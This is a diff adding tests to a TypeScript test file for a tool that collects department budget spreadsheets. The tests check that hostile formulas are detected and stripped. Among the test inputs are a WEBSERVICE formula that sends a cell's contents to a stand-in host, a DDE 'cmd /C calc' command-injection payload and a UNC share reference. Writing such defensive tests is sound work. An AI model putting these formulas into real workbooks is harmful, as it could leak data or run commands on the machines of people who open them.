@@ -1,6 +1,7 @@
 /** The collect plan, computed from grids alone (src/core/collect.ts). */
 import { validate } from "../../src/core";
-import { isUntouchedTemplate, mailText, planCollect, planRestore, type CollectFile } from "../../src/core/collect";
+import { isUntouchedTemplate, mailText, planCollect, planRestore, plausibilityText, removedText, type CollectFile, type Plausibility } from "../../src/core/collect";
+import { formulaKind } from "../../src/core/delivery-values";
 import { keptCopyName } from "../../src/core/kept-copy";
 import { forvaltningTemplate } from "../../src/core/forvaltning-template";
 import type { SheetGrid, WorkbookGrid } from "../../src/core/grid";
@@ -117,5 +118,105 @@ describe("kept copies", () => {
     expect(planRestore(wb, "buf")).toEqual({ ok: true, code: "BUF", restore: "BUF (erstattet 2)", as: "BUF", current: { name: "BUF", keepAs: "BUF (erstattet 3)" } });
     expect(planRestore(workbook(deptSheet("BUF", 2025)), "BUF")).toEqual({ ok: false, reason: "nothing-to-restore", code: "BUF" });
     expect(keptCopyName("ABCDEFGHIJKLMNOPQRSTUVWXYZABCDE", 2)).toHaveLength(31);
+  });
+});
+
+describe("collecting without harm (issue 18)", () => {
+  const all2025 = (): WorkbookGrid => target(...DEFAULT_UNIT_CODES.map((c) => templateSheet(c, 2025)));
+
+  it("values only: a formula arrives as its cached value; what reached outside the sheet is named by cell", () => {
+    expect(formulaKind('WEBSERVICE("http://x/?d="&ENCODEURL(INDIRECT("Noter!A1")))', "BUF")).toBe("webservice");
+    expect(formulaKind("cmd|' /C calc'!A0", "BUF")).toBe("dde");
+    expect(formulaKind("'\\\\host\\share\\[x.xlsx]Ark1'!A1", "BUF")).toBe("unc");
+    expect(formulaKind("[1]Ark1!A1", "BUF")).toBe("external");
+    expect(formulaKind("Ark1!N2", "BUF")).toBe("other-sheet");
+    expect(formulaKind("'Mit ark'!N2+1", "BUF")).toBe("other-sheet");
+    expect(formulaKind("FILTERXML(A1,\"//a\")", "BUF")).toBe("webservice");
+    expect(formulaKind("SUM(B5:B7)", "BUF")).toBe("formula");
+    expect(formulaKind("BUF!B5*2", "BUF")).toBe("formula");
+    expect(formulaKind('"a!b|c"&B5', "BUF")).toBe("formula");
+    const sheetWithHelper = deptSheet("BUF", 2025, { loentilskud: 26.1 });
+    const f: CollectFile = {
+      ...file("BUF.xlsx", sheetWithHelper, sheet("Ark1", [[null]])),
+      formulas: [
+        { sheet: "BUF", cell: "B5", formula: "Ark1!N2" },
+        { sheet: "BUF", cell: "B6", formula: 'WEBSERVICE("http://x")' },
+        { sheet: "BUF", cell: "B7", formula: "B5/2" },
+        { sheet: "Ark1", cell: "A1", formula: "cmd|' /C calc'!A0" },
+      ],
+      numberFormats: { BUF: { B5: "0.0" } },
+    };
+    const plan = planCollect(all2025(), [f], { choice: "ask" });
+    const buf = plan.overview.find((r) => r.code === "BUF");
+    expect(buf?.removed).toEqual({ named: [{ cell: "B5", kind: "other-sheet" }, { cell: "B6", kind: "webservice" }], outside: 2, plain: 1 });
+    expect(removedText(buf?.removed)).toContain("B6 (henter fra nettet)");
+    const action = plan.actions.find((a) => a.code === "BUF");
+    // What is written: the grid's values (26,1 in B5, the department's own figure), and the number format; nothing else.
+    expect(action?.write.values[4]?.[1]).toBe(26.1);
+    expect(action?.write.numberFormats[4]?.[1]).toBe("0.0");
+    expect(action?.write.values.flat().some((v) => typeof v === "string" && v.startsWith("="))).toBe(false);
+  });
+
+  it("no stalls: the blank template in an input is not delivered; the main workbook is skipped; a file named twice counts once", () => {
+    // A department returns the shared workbook with only its own sheet filled in.
+    const shared = file("Fælles-BUF.xlsx", ...DEFAULT_UNIT_CODES.map((c) => (c === "BUF" ? deptSheet("BUF", 2025) : templateSheet(c, 2025))));
+    const main: CollectFile = { file: "HOVED.xlsx", grid: all2025(), isMain: true };
+    const kff = { ...file("KFF.xlsx", deptSheet("KFF", 2025)), digest: "abc" };
+    const plan = planCollect(all2025(), [main, shared, kff, { ...kff, file: "./KFF.xlsx" }], { choice: "ask" });
+    expect(plan.actions.map((a) => [a.code, a.kind])).toEqual([["BUF", "fill-template"], ["KFF", "fill-template"]]);
+    expect(plan.problems.map((p) => p.kind)).toEqual(["main-skipped", "named-twice", "blank-template"]);
+    expect(plan.overview.filter((r) => r.state === "duplicate")).toEqual([]);
+    // Two copies of one sheet under different names (same values) count once too.
+    const twice = planCollect(all2025(), [file("a.xlsx", deptSheet("SOF", 2025)), file("b.xlsx", deptSheet("SOF", 2025))], { choice: "ask" });
+    expect(twice.actions.map((a) => [a.code, a.kind, a.file])).toEqual([["SOF", "fill-template", "a.xlsx"]]);
+  });
+
+  it("an unreadable file is a row with its reason when its name tells the forvaltning; the rest are collected", () => {
+    const plan = planCollect(all2025(), [file("BUF.xlsx", deptSheet("BUF", 2025))], {
+      choice: "ask",
+      unreadable: [{ file: "KFF-2025.xlsx", reason: "password" }, { file: "noget.xlsx", reason: "not-workbook" }],
+    });
+    expect(plan.overview.find((r) => r.code === "KFF")).toMatchObject({ state: "unreadable", unreadable: { file: "KFF-2025.xlsx", reason: "password" } });
+    expect(plan.problems).toEqual([{ kind: "unreadable", file: "noget.xlsx", reason: "not-workbook" }]);
+    expect(plan.actions.map((a) => a.code)).toEqual(["BUF"]);
+  });
+
+  it("an identical re-delivery is unchanged: no choice, no copy; a template with anything of the analyst's on it is a conflict", () => {
+    const withBuf = target(...DEFAULT_UNIT_CODES.map((c) => (c === "BUF" ? deptSheet("BUF", 2025) : templateSheet(c, 2025))));
+    const same = planCollect(withBuf, [file("BUF.xlsx", deptSheet("BUF", 2025))], { choice: "replace" });
+    expect(same.actions.map((a) => a.kind)).toEqual(["unchanged"]);
+    expect(same.overview.find((r) => r.code === "BUF")?.state).toBe("unchanged");
+    expect(same.undecided).toBe(false);
+    const touched = planCollect(all2025(), [file("BUF.xlsx", deptSheet("BUF", 2025))], { choice: "ask", touched: { BUF: ["notes"] } });
+    expect(touched.actions.map((a) => [a.kind, a.kind === "conflict" ? a.touched : null])).toEqual([["conflict", ["notes"]]]);
+    expect(touched.undecided).toBe(true);
+  });
+
+  it("plausibility: the wrong forvaltning by file name or field, and a replacement that changes a key figure by more than half", () => {
+    // KFF's correction typed into BUF's template and saved as KFF-2025-rettet.xlsx.
+    const wrong = deptSheet("BUF", 2025, { loentilskud: 1, virksomhedspraktik: 1, smaajob: 1 });
+    const withBuf = target(...DEFAULT_UNIT_CODES.map((c) => (c === "BUF" ? deptSheet("BUF", 2025) : templateSheet(c, 2025))));
+    const plan = planCollect(withBuf, [file("KFF-2025-rettet.xlsx", wrong)], { choice: "replace" });
+    const row = plan.overview.find((r) => r.code === "BUF");
+    expect(row?.plausibility).toEqual([
+      { kind: "names-other", via: "file", other: "KFF" },
+      { kind: "big-change", what: "samlet", before: 5.5 + 40.25 + 3.1, after: 3 },
+    ]);
+    expect(plausibilityText("BUF", "KFF-2025-rettet.xlsx", row?.plausibility[1] as Plausibility)).toContain("fra 48,9 til 3,0");
+    // The Forvaltning field says KFF, the sheet is BUF.
+    const field = sheet("BUF", deptSheet("BUF", 2025).values.map((r, i) => (i === 0 ? ["Forvaltning", "KFF"] : [...r])));
+    const p2 = planCollect(all2025(), [file("BUF.xlsx", field)], { choice: "ask" });
+    expect(p2.overview.find((r) => r.code === "BUF")?.plausibility).toEqual([{ kind: "names-other", via: "field", other: "KFF" }]);
+  });
+
+  it("a year that most files disagree with is the workbook's (HR's) problem, and never goes into a department's mail", () => {
+    const files = ["BIF", "BUF", "KFF"].map((c) => file(`${c}.xlsx`, deptSheet(c, 2025)));
+    const hr2024 = target(...DEFAULT_UNIT_CODES.map((c) => templateSheet(c, 2024)));
+    const plan = planCollect(hr2024, files, { choice: "ask" });
+    expect(plan.problems).toEqual([{ kind: "workbook-year", workbookYear: 2024, filesYear: 2025, files: 3, of: 3 }]);
+    for (const r of plan.overview.filter((x) => x.state === "delivered")) {
+      expect(r.issues.map((i) => i.code)).not.toContain("YEAR_MISMATCH");
+      expect(mailText(r)).not.toMatch(/2024/);
+    }
   });
 });
